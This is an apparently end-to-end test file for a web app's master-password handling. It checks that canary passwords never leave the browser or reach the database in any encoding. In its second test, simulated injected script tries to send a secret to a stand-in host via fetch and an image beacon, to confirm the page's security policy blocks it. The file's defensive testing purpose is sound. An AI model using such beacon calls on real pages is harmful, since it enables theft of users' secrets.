import { createHash, randomBytes } from 'node:crypto'
import { expect, it } from 'vitest'
import { useBrowsers } from '../testkit/browser.js'
import { useWorld } from '../testkit/use-world.js'

const browsers = useBrowsers()
const world = await useWorld()

/** A secret in every dress it might leave in: as it is, in base64 at each of the three offsets, in hex, and merely hashed. */
function dresses(secret: string): string[] {
  const bytes = Buffer.from(secret)
  const inside = [0, 1, 2].map(offset => Buffer.concat([Buffer.alloc(offset), bytes]).toString('base64').slice(offset ? 4 : 0).replace(/.{2}={0,2}$/, ''))
  const hash = createHash('sha256').update(bytes)
  const digest = hash.digest()
  return [
    secret,
    ...inside,
    bytes.toString('hex'),
    encodeURIComponent(secret),
    digest.toString('base64').slice(0, 40),
    digest.toString('hex'),
  ].flatMap(text => [text, text.replaceAll('+', '-').replaceAll('/', '_')])
}

/** Those of the secrets that occur in a text. */
function leaks(text: string, secrets: readonly string[]): string[] {
  const folded = text.toLowerCase()
  return secrets.filter(secret => dresses(secret).some(dress => folded.includes(dress.toLowerCase())))
}

/** Every row of every table, one line each. */
async function everything(): Promise<string> {
  const tables = await world.sql<{ name: string }>(
    `select format('%I.%I', table_schema, table_name) name from information_schema.tables where table_type = 'BASE TABLE' and table_schema not in ('pg_catalog', 'information_schema')`,
  )
  const rows: string[] = []
  for (const { name } of tables) // one connection after the other: there are more tables than connections
    rows.push(...(await world.sql<{ row: string }>(`select to_jsonb(t)::text as row from ${name} t`)).map(({ row }) => row))
  return rows.join('\n')
}

it('no master password ever leaves the browser, in no dress, and none is in the database', async () => {
  const canaries = Array.from({ length: 20 }, (_, at) => `canary ${at} ${randomBytes(12).toString('base64url')} sings`)
  const unused = [...canaries]
  const canary = (): string => unused.shift()!
  const sent: string[] = []

  const ada = await browsers.visit(world.origin)
  ada.forgive(/status of 401/)
  await ada.open(`/#${await world.setupCode()}`)
  await ada.button('Set up your provider').click()
  await ada.field('Name of the provider').fill('Northwind')
  await ada.field('Name').fill('Ada Admin')
  await ada.field('E-mail address').fill('ada@northwind.example')
  const adas = canary()
  for (let attempt = 0; attempt < 4; attempt++) {
    await ada.field('Master password').fill(canary())
    await ada.field('Repeat master password').fill(canary())
    await ada.text('The two passwords differ.').waitFor()
  }
  await ada.field('Master password').fill(adas)
  await ada.field('Repeat master password').fill(adas)
  await ada.button('Set up and sign in').click()
  await ada.heading('No clients yet').waitFor()

  const people = ['bob', 'cleo']
  await ada.goTo('Team')
  await ada.button('Invite to the team').click()
  await ada.field('E-mail addresses').fill(people.map(name => `${name}@northwind.example`).join('\n'))
  await ada.button('Send invitations').click()
  await ada.job('Invite 2 people')
  for (const name of people) {
    const visitor = await browsers.visit(world.origin)
    visitor.forgive(/status of 401/)
    await visitor.open(`/invitation#${await world.invitationOf(`${name}@northwind.example`)}`)
    const own = canary()
    await visitor.field('Name').fill(name)
    await visitor.field('E-mail address').fill(`${name}@northwind.example`)
    await visitor.field('Master password').fill(own)
    await visitor.button('Show the password').first().click()
    await visitor.field('Repeat master password').fill(own)
    await visitor.button('Create account and accept').click()
    await visitor.heading('Waiting to be confirmed').waitFor()
    await visitor.signOut()
    await visitor.field('E-mail address').fill(`${name}@northwind.example`)
    await visitor.field('Master password').fill(canary())
    await visitor.button('Sign in').click()
    await visitor.text('E-mail address or master password is wrong').waitFor()
    await visitor.signIn(`${name}@northwind.example`, own)
    expect(leaks(JSON.stringify(await visitor.page.context().storageState({ indexedDB: true })), canaries)).toEqual([])
    sent.push(...visitor.sent)
  }

  await ada.page.reload()
  await ada.choose('Your account', 'Unlock')
  while (unused.length > 0) {
    await ada.field('Master password').fill(canary())
    await ada.dialog('Unlock your keys').getByRole('button', { name: 'Unlock' }).click()
    await ada.text('This is not your master password; try again.').waitFor()
    await ada.field('Master password').fill('')
  }
  await ada.field('Master password').fill(adas)
  await ada.dialog('Unlock your keys').getByRole('button', { name: 'Unlock' }).click()
  await ada.dialog('Unlock your keys').waitFor({ state: 'detached' })
  sent.push(...ada.sent)

  const [requests, database] = [sent.join('\n'), await everything()]
  expect(leaks(requests, canaries)).toEqual([])
  expect(leaks(database, canaries)).toEqual([])
  // The same search finds what does leave the browser and what is kept.
  const known = ['bob@northwind.example', 'Ada Admin']
  expect(leaks(requests, known)).toEqual(known)
  expect(leaks(database, known)).toEqual(known)
  for (const dress of dresses(adas).slice(0, 12))
    expect(leaks(`{"x":"${dress}"}`, canaries)).toEqual([adas])
}, 150_000)

it('a script that got into the page cannot talk to anybody else', async () => {
  const eve = await browsers.visit(world.origin)
  await eve.open('/sign-in')
  await eve.heading('Sign in').waitFor()
  const outcome = await eve.page.evaluate(async () => {
    const tried = await fetch('https://elsewhere.example/?secret').then(() => 'sent', () => 'refused')
    await new Promise((resolve) => {
      const image = document.body.appendChild(document.createElement('img'))
      image.addEventListener('error', resolve)
      image.src = 'https://elsewhere.example/?secret'
    })
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>written</b>')
    }
    catch {
      return [tried, 'not written']
    }
    return [tried, 'written']
  })
  expect(outcome).toEqual(['refused', 'not written'])
  const complaints = eve.complaints.splice(0).join('\n')
  for (const rule of ['connect-src', 'img-src', 'TrustedHTML'])
    expect(complaints).toContain(rule)
}, 60_000)
